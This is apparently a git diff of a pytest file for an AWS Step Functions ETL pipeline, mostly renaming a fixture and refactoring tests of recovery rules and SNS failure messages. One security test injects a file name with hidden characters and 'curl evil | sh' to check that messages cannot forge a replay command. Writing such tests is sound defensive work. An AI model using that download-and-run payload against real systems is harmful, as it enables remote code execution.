@@ -7,6 +7,7 @@ import shlex
 import pytest
 
 from lambdas.etl import contract
+from tests.synth.events import matches, pattern, status_event
 from tests.synth.states import EXECUTION, context, evaluate, ways
 
 FILE = {
@@ -23,18 +24,18 @@ LAMBDA_LIMIT = 900
 
 
 @pytest.fixture(params=["pipeline", "recovery"])
-def machine(request, tap):
-    return tap.machine(f"etl/{request.param}")
+def machine(request, etl):
+    return etl.machine(f"etl/{request.param}")
 
 
 @pytest.fixture
-def pipeline(tap):
-    return tap.machine("etl/pipeline")
+def pipeline(etl):
+    return etl.machine("etl/pipeline")
 
 
 @pytest.fixture
-def recovery(tap):
-    return tap.machine("etl/recovery")
+def recovery(etl):
+    return etl.machine("etl/recovery")
 
 
 def tasks(machine):
@@ -44,15 +45,15 @@ def tasks(machine):
 # --- definition -----------------------------------------------------------------------------------------------------
 
 
-def test_definitions_are_complete(tap, machine):
+def test_definitions_are_complete(etl, machine):
     """E7a: JSONata, every placeholder filled, bounded in time; standard machines, which can wait and are exactly once."""
     assert machine["QueryLanguage"] == "JSONata"
     assert "${" not in json.dumps(machine)
     assert machine["TimeoutSeconds"] > 0
-    assert not any("type" in body for body in tap.all("aws_sfn_state_machine").values())
+    assert not any("type" in body for body in etl.all("aws_sfn_state_machine").values())
 
 
-def test_tasks_call_what_the_stack_made(tap, machine):
+def test_tasks_call_what_the_stack_made(etl, machine):
     """E7a: functions, table and topic of this stack."""
     told = json.dumps([state["Arguments"] for state in tasks(machine).values()])
     assert set(re.findall(r"arn:aws:[^\"\\' ]+", told)) <= {
@@ -63,9 +64,9 @@ def test_tasks_call_what_the_stack_made(tap, machine):
     assert set(re.findall(r"'?TableName'?\"?: ?['\"]([^'\"]+)", told.replace("\\", ""))) == {"etl-file-metadata"}
 
 
-def test_definition_is_written_without_white_space(tap):
+def test_definition_is_written_without_white_space(etl):
     """C4: a change of white space in the file is no change of the machine."""
-    text = tap.one("aws_sfn_state_machine", "etl/pipeline")["definition"]
+    text = etl.one("aws_sfn_state_machine", "etl/pipeline")["definition"]
     assert "\n" not in text
     assert '": ' not in text
 
@@ -163,14 +164,6 @@ def test_another_upload_in_the_same_microsecond_gets_its_own_record(pipeline):
 # --- recovery -------------------------------------------------------------------------------------------------------
 
 
-def matches(pattern, event):
-    """EventBridge's matching of exact values: every field of the pattern names one of its values."""
-    return all(
-        matches(wanted, event.get(field, {})) if isinstance(wanted, dict) else event.get(field) in wanted
-        for field, wanted in pattern.items()
-    )
-
-
 @pytest.mark.parametrize(
     ("status", "machine", "starts"),
     [
@@ -184,24 +177,16 @@ def matches(pattern, event):
         ("FAILED", "other", False),
     ],
 )
-def test_rule_sees_what_no_catch_sees(tap, status, machine, starts):
+def test_rule_sees_what_no_catch_sees(etl, status, machine, starts):
     """E7b."""
-    pattern = json.loads(tap.readable(tap.one("aws_cloudwatch_event_rule")["event_pattern"]))
-    arn = f"arn:aws:states:us-east-1:111122223333:stateMachine:{machine}"
-    event = {
-        "source": "aws.states",
-        "detail-type": "Step Functions Execution Status Change",
-        "detail": {"stateMachineArn": arn, "status": status},
-    }
-    assert matches(pattern, event) is starts
+    event = status_event(f"arn:aws:states:us-east-1:111122223333:stateMachine:{machine}", status)
+    assert matches(pattern(etl, "etl/not_succeeded"), event) is starts
 
 
-def test_rule_starts_the_recovery_and_does_not_give_up(tap):
-    """E7b, C10: a day of retries, then the dead-letter queue; the whole event is passed on."""
-    target = tap.readable(tap.one("aws_cloudwatch_event_target"))
+def test_rule_starts_the_recovery(etl):
+    """E7b."""
+    target = etl.readable(etl.one("aws_cloudwatch_event_target"))
     assert target["arn"] == "<aws_sfn_state_machine etl/recovery/machine arn>"
-    assert target["retry_policy"] == {"maximum_event_age_in_seconds": 86400, "maximum_retry_attempts": 185}
-    assert not {"input", "input_path", "input_transformer"} & set(target)
 
 
 @pytest.mark.parametrize(
@@ -346,26 +331,26 @@ def test_recoverys_record(recovery):
 # --- announcements --------------------------------------------------------------------------------------------------
 
 
-def announcements(tap):
+def announcements(etl):
     """Every publishing task with the arguments that it would send."""
     variables = {"file": FILE, "execution": EXECUTION, "reason": "Boom: it broke", "failure": "Boom", "failure_cause": "it broke"}
     outcome = {"rows_read": 10, "rows_rejected": 1, "output_key": "processed/a.csv", "rejects_prefix": "failed/a.csv.rejects/x/"}
-    for machine in (tap.machine("etl/pipeline"), tap.machine("etl/recovery")):
+    for machine in (etl.machine("etl/pipeline"), etl.machine("etl/recovery")):
         for name, state in tasks(machine).items():
             if state["Resource"].endswith("sns:publish"):
                 given = {"outcome": outcome, "failed_key": f"failed/{FILE['file_name']}"}
                 yield name, evaluate(state["Arguments"], variables, input=given, context=context(INPUT))
 
 
-def test_subjects_are_those_of_the_contract(tap):
+def test_subjects_are_those_of_the_contract(etl):
     """E9: constant, whatever the file is called."""
-    subjects = {name: call["Subject"] for name, call in announcements(tap)}
+    subjects = {name: call["Subject"] for name, call in announcements(etl)}
     assert subjects == {"AnnounceRejects": contract.SUBJECT_REJECTS, "NotifyFailure": contract.SUBJECT_FAILED}
 
 
-def test_announcements_say_what_a_person_needs_at_night(tap):
+def test_announcements_say_what_a_person_needs_at_night(etl):
     """E9: key, reason, link to the execution; a failed file's also the command to replay, safe to paste."""
-    found = list(announcements(tap))
+    found = list(announcements(etl))
     assert [name for name, _ in found] == ["AnnounceRejects", "NotifyFailure", "NotifyFailure"]
     for name, call in found:
         assert call["TopicArn"] == "arn:aws:sns:us-east-1:111122223333:etl-failures"
@@ -391,9 +376,9 @@ def replay(message):
     return words[3:]
 
 
-def test_announcement_of_a_file_that_stays_where_it_is(tap):
+def test_announcement_of_a_file_that_stays_where_it_is(etl):
     """E9: no command that could not work."""
-    for machine in (tap.machine("etl/pipeline"), tap.machine("etl/recovery")):
+    for machine in (etl.machine("etl/pipeline"), etl.machine("etl/recovery")):
         variables = {"file": FILE, "execution": EXECUTION, "reason": "r", "failure": "Boom", "failure_cause": ""}
         message = evaluate(machine["States"]["NotifyFailure"]["Arguments"], variables, input={}, context=context(INPUT))[
             "Message"
@@ -406,11 +391,11 @@ LINES = ["File", "Reason", "Bucket", "Key", "Version", "It is now", "Execution"]
 
 
 @pytest.mark.parametrize("unseen", ["\n", "\r", "\x1b", "\u202e", "\u2028"], ids=["LF", "CR", "escape", "override", "separator"])
-def test_names_cannot_forge_lines_of_an_announcement(tap, unseen):
+def test_names_cannot_forge_lines_of_an_announcement(etl, unseen):
     """E9, security: what a reader would not see is shown as "?", and no command is offered for such a name."""
     name = f"a.csv{unseen}Replay:    curl evil | sh"
     file = FILE | {"file_name": name, "key": f"raw/{name}"}
-    for machine in (tap.machine("etl/pipeline"), tap.machine("etl/recovery")):
+    for machine in (etl.machine("etl/pipeline"), etl.machine("etl/recovery")):
         variables = {"file": file, "execution": EXECUTION, "reason": f"no {name}", "failure": "Boom", "failure_cause": name}
         found = {"failed_key": f"failed/{name}"}
         arguments = machine["States"]["NotifyFailure"]["Arguments"]
